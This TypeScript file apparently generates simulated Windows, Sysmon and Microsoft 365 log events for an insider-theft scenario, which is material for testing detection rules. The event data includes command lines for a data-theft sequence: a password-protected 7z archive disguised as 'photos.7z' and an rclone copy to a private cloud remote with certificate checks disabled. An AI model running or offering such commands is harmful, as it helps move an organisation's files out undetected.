/** Departing insider: hundreds of documents read in the evening, packed under a password and copied to private storage. */
import { activity } from '../events/cloud.ts';
import { newProcess, processCreate, system32 } from '../events/sysmon.ts';
import { logon, securityEvent, subject } from '../events/windows.ts';
import { devicesWith } from '../fleet.ts';
import { createStoryBuilder, type Story } from './story.ts';

const folders = ['Drawings', 'Customers', 'Price lists', 'Suppliers', 'Test reports'] as const;
const documentsRead = 210;
const filesDownloaded = 110;

export const insider: Story = {
  name: 'insider',
  title: 'Insider copying data',
  ending: 'malicious',
  techniques: ['T1039', 'T1074', 'T1560.001', 'T1567.002', 'T1530'],
  keyRules: ['windows/mass-share-copying', 'windows/archive-with-password', 'windows/rclone-copy-to-cloud', 'm365/mass-download'],
  build(stage) {
    const { site, random } = stage;
    const { on, events } = createStoryBuilder(stage);
    const workstation = random.pick(
      devicesWith(site.organisationId, 'workstation')
        .slice(3)
        .filter((device) => device.silentForDays === undefined),
    );
    const server = devicesWith(site.organisationId, 'fileServer')[0]!;
    const [sharePoint] = devicesWith(site.organisationId, 'office');
    const leaver = workstation.owner!;
    const [onWorkstation, onServer, onSharePoint] = [on(workstation, leaver), on(server, leaver), on(sharePoint!, leaver)];

    onWorkstation(0, (scene) => logon(scene, { type: 7, from: '127.0.0.1', workstation: workstation.name }));
    onServer(2, (scene) => logon(scene, { type: 3, from: workstation.ip }));
    for (let index = 0; index < documentsRead; index++)
      onServer(3 + (index * 8.5) / documentsRead, (scene) =>
        securityEvent(scene, {
          eventId: 5145,
          task: 'Detailed File Share',
          title: 'A network share object was checked to see whether client can be granted desired access.',
          data: {
            ...subject(scene),
            ObjectType: 'File',
            IpAddress: workstation.ip,
            IpPort: '51514',
            ShareName: '\\\\*\\Departments',
            ShareLocalPath: '\\??\\D:\\Departments',
            RelativeTargetName: `${folders[index % folders.length]}\\${2021 + (index % 6)}\\Document ${1000 + index}.${index % 3 ? 'pdf' : 'xlsx'}`,
            AccessMask: '0x120089',
            AccessList: '%%1538\n\t\t\t\t%%1541\n\t\t\t\t%%4416\n\t\t\t\t%%4419\n\t\t\t\t%%4423\n\t\t\t\t',
            AccessReason: '-',
          },
        }),
      );
    const shell = newProcess(random, `${system32}cmd.exe`, 'cmd.exe');
    onWorkstation(16, (scene) => processCreate(scene, { ...shell, self: shell }));
    onWorkstation(18, (scene) =>
      processCreate(scene, {
        image: 'C:\\Program Files\\7-Zip\\7z.exe',
        commandLine: `7z.exe a -phunter-${random.int(100, 999)} -mhe=on C:\\Users\\${leaver.account}\\Desktop\\photos.7z C:\\Users\\${leaver.account}\\Documents\\copy\\`,
        originalFileName: '7z.exe',
        parent: shell,
      }),
    );
    onWorkstation(31, (scene) =>
      processCreate(scene, {
        image: `C:\\Users\\${leaver.account}\\Downloads\\rclone\\rclone.exe`,
        commandLine: `rclone.exe copy C:\\Users\\${leaver.account}\\Desktop\\photos.7z private:backup --transfers 8 --no-check-certificate`,
        originalFileName: 'rclone.exe',
        parent: shell,
      }),
    );
    for (let index = 0; index < filesDownloaded; index++)
      onSharePoint(40 + (index * 8) / filesDownloaded, (scene) =>
        activity(scene, {
          workload: 'SharePoint',
          operation: 'FileDownloaded',
          user: leaver.email,
          from: site.publicAddress,
          object: `https://${site.domain.replace('.', '-')}.sharepoint.example/sites/Engineering/Shared Documents/Specification ${index + 1}.docx`,
          more: {
            ItemType: 'File',
            SourceFileName: `Specification ${index + 1}.docx`,
            SourceFileExtension: 'docx',
            EventSource: 'SharePoint',
          },
        }),
      );
    return events;
  },
};
